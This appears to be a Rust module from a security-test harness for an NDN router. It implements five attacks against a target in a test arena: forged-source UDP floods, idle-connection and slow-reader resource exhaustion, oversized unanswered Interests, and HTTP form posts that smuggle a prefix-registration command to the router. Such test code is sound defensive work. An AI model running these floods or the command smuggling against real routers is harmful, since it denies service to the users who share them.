//! Attacks on the NDN router.

use core::time::Duration;
use std::io::{self, Write};
use std::net::{Ipv4Addr, SocketAddr, TcpStream};

use whimbrel_ndn_mgmt::ControlParameters;
use whimbrel_ndn_mgmt::client::{self, Stamp, Target};
use whimbrel_ndn_packet::{DigestSigner, Interest, Name};

use super::arena::{LARGE, PREFIX};
use super::socket::{Forger, drawn, udp};
use super::{Assault, Attack, Plane, Sent};

/// Connections of one attacker.
const STREAMS: usize = 1_500;
/// Peers that do not read, and the Interests of each.
const READERS: usize = 60;
const REQUESTS: u64 = 600;
/// As fast as that: the producer, which honest users share, is not to be flooded, bit/s.
const REQUEST_RATE: u64 = 1_000_000;
/// A page posts a form like this one, in whose body an Interest is.
const FORM: &[u8] = b"POST / HTTP/1.1\r\nHost: target\r\nContent-Type: text/plain\r\n\r\n";

pub(super) const FORGED_SOURCES: Attack = Attack {
    name: "forged-sources",
    what: "Interests over UDP, each from another source",
    plane: Plane::Ndn,
    is_proven: false,
    run: |assault| {
        let target = assault.target(Plane::Ndn)?;
        assault.there(|| {
            let forger = Forger::new(target)?;
            let mut sent = Sent::default();
            assault.flood(&mut sent, |number| {
                let source = Ipv4Addr::from(0x0a80_0000 + (number as u32 & 0x3f_ffff));
                forger.send(source, 6363, &interest(&format!("/x/{number}"), 0))
            })?;
            Ok(sent)
        })
    },
};

pub(super) const IDLE_STREAMS: Attack = Attack {
    name: "idle-streams",
    what: "1,500 connections that stay silent",
    plane: Plane::Ndn,
    is_proven: false,
    run: |assault| {
        let target = assault.target(Plane::Ndn)?;
        let streams = assault.there(|| {
            let streams = (0..STREAMS).map(|_| connect(target));
            Ok(streams.filter_map(Result::ok).collect::<Vec<_>>())
        })?;
        assault.wait();
        Ok(Sent {
            packets: streams.len() as u64,
            ..Sent::default()
        })
    },
};

pub(super) const SLOW_READERS: Attack = Attack {
    name: "slow-readers",
    what: "60 connections ask for 4 MB each and do not read",
    plane: Plane::Ndn,
    is_proven: false,
    run: |assault| {
        let target = assault.target(Plane::Ndn)?;
        assault.there(|| {
            let streams = (0..READERS).map(|_| connect(target).map(Some));
            // `None`: an Interest was cut off, and the router has ended the connection.
            let mut streams = streams.collect::<io::Result<Vec<_>>>()?;
            let mut sent = Sent::default();
            let slowly = Assault {
                rate: assault.rate.min(REQUEST_RATE),
                ..*assault
            };
            slowly.flood(&mut sent, |number| {
                let reader = number as usize % READERS;
                let asked = number / READERS as u64;
                if asked >= REQUESTS {
                    std::thread::sleep(Duration::from_millis(1));
                    return Ok(0);
                }
                // Data of their own: what is cached is shared among all queues.
                let packet = interest(&format!("{LARGE}/ping/{number}"), 0);
                let sent = (streams[reader].as_mut()).map(|stream| stream.write_all(&packet));
                match sent {
                    Some(Ok(())) => Ok(packet.len()),
                    _ => {
                        streams[reader] = None;
                        Ok(0)
                    }
                }
            })?;
            Ok(sent)
        })
    },
};

pub(super) const LARGE_INTERESTS: Attack = Attack {
    name: "large-interests",
    what: "Interests of 8 kB that nobody answers",
    plane: Plane::Ndn,
    is_proven: false,
    run: |assault| {
        let target = assault.target(Plane::Ndn)?;
        assault.there(|| {
            let mut stream = connect(target)?;
            let mut sent = Sent::default();
            assault.flood(&mut sent, |number| {
                let packet = interest(&format!("{PREFIX}/nobody/{number}"), 8_000);
                stream.write_all(&packet)?;
                Ok(packet.len())
            })?;
            Ok(sent)
        })
    },
};

pub(super) const WEB_PAGE: Attack = Attack {
    name: "web-page",
    what: "forms that a page of a browser on the router's machine posts, with commands in them",
    plane: Plane::Ndn,
    is_proven: false,
    run: |assault| {
        let target = assault.target(Plane::Ndn)?;
        let mut sent = assault.there(|| {
            let mut sent = Sent::default();
            let socket = udp(target)?;
            for number in 0..20u64 {
                let mut stream = connect(target)?;
                let command = registration(number);
                for part in [FORM, &command] {
                    // It may have ended before.
                    if stream.write_all(part).is_ok() {
                        sent.octets += part.len() as u64;
                    }
                }
                socket.send(&command)?;
                sent.packets += 2;
            }
            assault.wait();
            sent.drawn = drawn(&socket);
            Ok(sent)
        })?;
        let transport = format!("unix://{}", assault.arena.ndn_socket().display());
        let mut command = assault.arena.command(&["route", "show", "/evil"]);
        command.args(["--transport", &transport]);
        let patience = Duration::from_secs(5);
        sent.obeyed = assault.arena.succeeds(true, command, patience)?;
        Ok(sent)
    },
};

/// Connects; neither that nor a write takes longer than this, whatever the router does.
fn connect(target: SocketAddr) -> io::Result<TcpStream> {
    const PATIENCE: Duration = Duration::from_secs(1);
    let stream = TcpStream::connect_timeout(&target, PATIENCE)?;
    stream.set_write_timeout(Some(PATIENCE))?;
    Ok(stream)
}

/// A command that registers a prefix for the connection that it comes on.
fn registration(number: u64) -> Vec<u8> {
    let evil = ControlParameters {
        name: Some("/evil".parse().unwrap_or_default()),
        ..ControlParameters::default()
    };
    let stamp = Stamp {
        time: number,
        nonce: number.to_be_bytes(),
    };
    client::command(
        Target::Local,
        "rib",
        "register",
        &evil,
        &DigestSigner,
        stamp,
    )
}

/// An Interest with this many octets of parameters.
fn interest(name: &str, parameters: usize) -> Vec<u8> {
    let name: Name = name.parse().unwrap_or_default();
    let mut interest = Interest {
        nonce: Some([1, 2, 3, 4]),
        lifetime: Some(Duration::from_secs(60)),
        ..Interest::new(name)
    };
    if parameters > 0 {
        interest.parameters = Some(vec![0; parameters].into());
    }
    interest.encode()
}
